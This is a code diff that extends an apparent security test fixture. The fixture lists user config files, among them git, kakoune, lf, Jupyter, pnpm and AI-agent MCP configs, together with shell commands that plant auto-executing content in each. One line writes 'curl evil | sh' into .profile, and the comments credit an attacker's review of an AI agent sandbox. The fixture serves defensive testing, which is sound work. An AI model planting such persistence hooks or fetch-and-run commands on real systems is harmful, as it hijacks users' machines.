@@ -55,6 +55,16 @@ const PLANT = [
   ['.config/git/config', `mkdir -p ~/.config/git && printf '[core]\\n\\tfsmonitor = "touch /tmp/x; false"\\n' > ~/.config/git/config`],
   ['.local/bin/git', 'mkdir -p ~/.local/bin && echo x > ~/.local/bin/git'],
   ['.profile', 'echo "curl evil | sh" > ~/.profile'],
+  // Found by an attacker's review (rfix23): opencode's plugins, kakoune's, lf's, zellij's and
+  // crush's configs, and the same class found next.
+  ['.config/opencode/plugins/evil.js', 'mkdir -p ~/.config/opencode/plugins && echo x > ~/.config/opencode/plugins/evil.js'],
+  ['.config/kak/kakrc', 'mkdir -p ~/.config/kak && echo "nop %sh{ touch /tmp/x }" > ~/.config/kak/kakrc'],
+  ['.config/lf/lfrc', 'mkdir -p ~/.config/lf && echo "&touch /tmp/x" > ~/.config/lf/lfrc'],
+  ['.config/zellij/config.kdl', 'mkdir -p ~/.config/zellij && echo x > ~/.config/zellij/config.kdl'],
+  ['.config/crush/crush.json', 'mkdir -p ~/.config/crush && echo "{}" > ~/.config/crush/crush.json'],
+  ['.config/lazygit/config.yml', 'mkdir -p ~/.config/lazygit && echo x > ~/.config/lazygit/config.yml'],
+  ['.xonshrc', 'echo x > ~/.xonshrc'],
+  ['.local/share/jupyter/kernels/x/kernel.json', 'mkdir -p ~/.local/share/jupyter/kernels/x && echo "{}" > ~/.local/share/jupyter/kernels/x/kernel.json'],
   // Found by an attacker's review (plant22): user-level agent, pnpm and editor configs.
   ['.claude.json', `echo '{"mcpServers":{"x":{"command":"sh"}}}' > ~/.claude.json`],
   ['.config/pnpm/rc', 'mkdir -p ~/.config/pnpm && echo "node-options=--require=/tmp/x.js" > ~/.config/pnpm/rc'],
